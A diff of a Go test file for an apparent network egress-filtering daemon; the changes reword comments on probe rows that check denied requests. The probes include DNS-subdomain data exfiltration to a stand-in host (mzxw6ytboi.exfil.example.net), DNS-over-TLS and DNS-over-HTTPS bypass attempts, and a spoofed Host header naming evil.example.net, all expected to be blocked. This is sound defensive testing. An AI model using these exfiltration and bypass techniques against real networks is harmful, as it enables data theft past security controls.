@@ -13,7 +13,7 @@ const (
 	itsOwn = "Test Internet Root" // the issuer of the real servers' certificates
 	ours   = "cay"                // of those we make
 
-	// The ends of what is denied, in the words of curl, Python and Node.
+	// The errors of denied requests, in the words of curl, Python and Node.
 	noName   = `(?i)could not resolve|gaierror|ENOTFOUND|EREFUSED|REFUSED|EAI_AGAIN`
 	tlsAlert = `(?i)access.denied|alert number 49`
 	refused  = `(?i)refused|reset|ended|unreachable|could not connect|couldn't connect|closed|failed to connect`
@@ -84,7 +84,8 @@ var scenes = []scene{
 			probe{URL: "tls://misc.example.com:8443", Body: "echo", sees: "^echo$"},
 			// Row N25.
 			probe{URL: "tcp://" + misc + ":25", Read: 3, sees: refused, flow: "denied blocked port 25"},
-			// Row N6: every resolver is ours, which does not do DNS over TLS.
+			// Row N6: every resolver is the daemon's, which does not support DNS
+			// over TLS.
 			probe{URL: "dns://" + dnsIP + "/api.example.com", sees: api},
 			probe{URL: "dns+tcp://" + dnsIP + "/api.example.com", sees: api},
 			probe{URL: "tcp://" + dnsIP + ":853", Body: "x", sees: refused, flow: "denied"},
@@ -142,12 +143,12 @@ var scenes = []scene{
 			probe{URL: "http://" + api + "/", status: 403, sees: "not in allow", flow: "denied not in allow"},
 			probe{URL: "tcp://" + misc + ":7", Body: "\x00\x01echo", sees: refused, flow: "denied"},
 			probe{URL: "udp://" + misc + ":7", Body: "echo", only: "python node", sees: refused, flow: "denied"},
-			// Row N15: QUIC's clients fall back at once.
+			// Row N15: QUIC clients fall back at once.
 			probe{URL: "udp://" + misc + ":443", Body: "echo", sees: refused, flow: "denied"},
 			// TLS need not be HTTP.
 			probe{URL: "tls://misc.example.com:8443", Body: "echo", sees: "^echo$", flow: `allowed allow "misc.example.com"`},
 			probe{URL: "pg://misc.example.com:5432", Body: "echo", sees: "^echo$", flow: `allowed allow "misc.example.com"`},
-			// Row N5: the name is the message, and stays here.
+			// Row N5: the name itself is the message, and does not leave.
 			probe{URL: "dns://" + dnsIP + "/mzxw6ytboi.exfil.example.net", sees: "NXDOMAIN|ENOTFOUND", flow: "denied not in allow"},
 			probe{URL: "dns://" + network.GatewayAddr.String() + "/mzxw6ytboi.exfil.example.net?TXT", only: "python", sees: "NXDOMAIN|ENOTFOUND"},
 			probe{URL: "http://mzxw6ytboi.exfil.example.net/", sees: noName},
@@ -157,11 +158,11 @@ var scenes = []scene{
 			probe{URL: "dns://" + dnsIP + "/api.example.com?HTTPS", only: "python", sees: "NOERROR 0 answers"},
 			probe{URL: "tcp://" + dnsIP + ":853", Body: "x", sees: refused, flow: "denied"},
 			probe{URL: "https://dns.example.net/dns-query?dns=AAAB", At: dnsIP, sees: tlsAlert, flow: "denied not in allow"},
-			// Row N8: where a connection goes is for us to say.
+			// Row N8: the daemon decides where a connection goes.
 			probe{URL: "https://api.example.com/", At: other, status: 200, by: "api"},
 			probe{URL: "http://api.example.com/", At: other, status: 200, by: "api"},
-			// Row N10: without reading the requests, the name of the connection is all
-			// there is. Strict is for that.
+			// Row N10: if requests are not read, only the connection's name is
+			// checked. Strict is for that.
 			probe{URL: "https://cdn.example.com/", Headers: map[string]string{"host": "evil.example.net"}, status: 200, by: "cdn"},
 			// A name is reached at its allowed addresses only.
 			probe{URL: "https://mixed.example.com/", At: other, status: 200, by: "api"},
